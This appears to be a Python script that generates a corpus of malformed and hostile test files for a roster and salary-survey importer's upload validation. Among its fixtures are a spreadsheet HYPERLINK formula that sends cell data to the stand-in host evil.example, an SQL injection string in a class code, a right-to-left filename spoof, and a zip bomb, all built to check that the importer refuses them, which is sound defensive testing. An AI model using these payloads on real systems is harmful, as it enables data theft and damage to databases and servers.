"""Write the binary members of the bad-input corpus (workbooks, PNG/UTF-16/zip files with a
.csv or .json name, bytes that no text encoding accepts). The text members are plain files
written by hand. Run from the repository root after changing this script:

    .venv/bin/python tests/bad_inputs/make_binary_inputs.py

The outputs are committed so the corpus can also be uploaded by hand in the app.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
from openpyxl.worksheet.formula import ArrayFormula

HERE = Path(__file__).resolve().parent
HEADER = ["agency", "class_code", "step", "fte", "count"]
# The first bytes of a real PNG (signature, IHDR chunk) and some noise.
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
    b"\x1f\xf3\xffa\x00\x00\x00\x04gAMA\x00\x00\xb1\x8f\x0b\xfca\x05" + bytes(range(256))
)


def workbook(*rows: list, title: str = "Sheet1", setup=None) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    if setup:
        setup(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def formulas(ws) -> None:
    ws["D2"] = "=0.5*2"
    ws["F1"] = "note"
    ws["F2"] = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    ws["E3"] = ArrayFormula("E3", "=SUM(1,1)")


def far_cell(ws) -> None:
    # one cell in the sheet's last row and column: the stated size is A1:XFD1048576
    ws.cell(row=1_048_576, column=16_384, value="x")


def wide_row(ws) -> None:
    ws.cell(row=2, column=16_384, value="x")


def zipped(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def write(path: str, data: bytes) -> None:
    (HERE / path).write_bytes(data)


def roster_xlsx_typed_cells() -> None:
    """Typed XLSX cells read by the cell parser's rules (a bool is not a count, a date is not
    an FTE), text the rules refuse, and a sheet named 'Roster' chosen over the first."""
    from datetime import datetime

    dated = ["agency", "class_code", "step", "fte", "count", "next_step_date"]
    write("roster_xlsx/bool_count.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", 1, True]))
    write("roster_xlsx/tiny_fte.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", 1e-300, 1]))
    write(
        "roster_xlsx/date_in_fte.xlsx",
        workbook(HEADER, ["Sonoma", "0401", "A", datetime(2005, 1, 1), 1]),
    )
    write(
        "roster_xlsx/ambiguous_date.xlsx",
        workbook(dated, ["Sonoma", "0401", "A", 1, 1, "01/02/03"]),
    )
    write(
        "roster_xlsx/bidi_in_note.xlsx",
        workbook([*HEADER, "note"], ["Sonoma", "0401", "A", 1, 1, "Payroll \u202egpj.exe"]),
    )

    def roster_sheet(ws) -> None:
        other = ws.parent.create_sheet("Roster")
        other.append(HEADER)
        other.append(["Sonoma", "0401", "Z", 1, 1])

    write(
        "roster_xlsx/roster_sheet_second.xlsx",
        workbook(["notes"], ["see the Roster sheet"], setup=roster_sheet),
    )


def main() -> None:
    good_row = ["Sonoma", "0401", "A", 1, 1]
    valid_xlsx = workbook(HEADER, good_row)
    zip_buf = io.BytesIO()
    with zipfile.ZipFile(zip_buf, "w") as z:
        z.writestr("readme.txt", "a zip archive, not a workbook")

    # roster CSV
    write("roster_csv/png_named_csv.csv", PNG)
    write("roster_csv/utf16.csv", "agency,class_code,step,fte,count\r\n".encode("utf-16"))
    write("roster_csv/zip_named_csv.csv", zip_buf.getvalue())

    # roster XLSX
    write("roster_xlsx/formulas.xlsx", workbook(HEADER, good_row, good_row, setup=formulas))
    write(
        "roster_xlsx/missing_fte_column.xlsx",
        workbook(["agency", "class_code", "step", "count"], ["Sonoma", "0401", "A", 1]),
    )
    write("roster_xlsx/wrong_type_fte.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", "full", 1]))
    write("roster_xlsx/negative_count.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", 1, -3]))
    write("roster_xlsx/huge_count.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", 1, 1e300]))
    write("roster_xlsx/unknown_class.xlsx", workbook(HEADER, ["Sonoma", 9999, "A", 1, 1]))
    write(
        "roster_xlsx/duplicate_ids.xlsx",
        workbook(
            ["agency", "class_code", "step", "fte", "id"],
            ["Sonoma", "0401", "A", 1, 100],
            ["Sonoma", "0402", "B", 1, 100],
        ),
    )
    write(
        "roster_xlsx/sql_in_class_code.xlsx",
        workbook(HEADER, ["Sonoma", "0401'); DROP TABLE scenarios;--", "A", 1, 1]),
    )
    write("roster_xlsx/stray_cell.xlsx", workbook(HEADER, [*good_row, None, "see HR"]))
    write("roster_xlsx/empty_workbook.xlsx", workbook())
    write("roster_xlsx/header_only.xlsx", workbook(HEADER))
    write("roster_xlsx/far_cell.xlsx", workbook(HEADER, good_row, setup=far_cell))
    write("roster_xlsx/wide_row.xlsx", workbook(HEADER, good_row, setup=wide_row))
    write("roster_xlsx/truncated.xlsx", valid_xlsx[:300])
    write(
        "roster_xlsx/csv_named_xlsx.xlsx", b"agency,class_code,step,fte,count\nSonoma,0401,A,1,1\n"
    )
    write("roster_xlsx/png_named_xlsx.xlsx", PNG)
    roster_xlsx_typed_cells()

    # survey template
    write("survey_template/png_named_csv.csv", PNG)
    write("survey_template/xlsx_named_csv.csv", valid_xlsx)
    write(
        "survey_template/utf16.csv",
        "agency,class_title,pay,pay_period,effective_date,source\r\n".encode("utf-16"),
    )
    write(
        "survey_template/not_windows_1252.csv",
        b"agency,class_title,pay,pay_period,effective_date,source\n"
        b"Napa County,Account Clerk \x81\x8d,23.45,hourly,2016-07-01,Napa schedule\n",
    )

    # SCO GCC: the five bytes Windows-1252 leaves undefined are read as the control characters
    # Latin-1 (and Windows itself) gives them, so such a file imports (etl/gcc/archive.py)
    write("sco_gcc/png_named_csv.csv", PNG)
    write(
        "sco_gcc/accepted_undefined_windows_1252_bytes.csv",
        b'"Year","EmployerName","Position","MaxPositionSalary"\n'
        b'"2016","Napa","Office Assistant \x8f\x90","50000.00"\n',
    )
    gcc = (
        b'"Year","EmployerType","EmployerName","Position","MaxPositionSalary"\r\n'
        b'"2016","County","Napa","Office Assistant II","50000.00"\r\n'
    )
    write("sco_gcc/zip_with_no_csv.zip", zipped({"readme.txt": b"no CSV in here"}))
    write("sco_gcc/zip_with_two_csvs.zip", zipped({"2016_a.csv": gcc, "2016_b.csv": gcc}))
    write("sco_gcc/truncated.zip", zipped({"2016_County.csv": gcc * 200})[:150])
    # 11 MB of one repeated line in a 12 KB ZIP: refused by its ratio before it is unpacked
    write("sco_gcc/zip_bomb.zip", zipped({"2016_County.csv": gcc * (11 * 1024**2 // len(gcc))}))

    # scenario JSON
    write("scenario_json/png_named_json.json", PNG)
    write("scenario_json/utf16.json", '{"agency": "Sonoma"}'.encode("utf-16"))


if __name__ == "__main__":
    main()
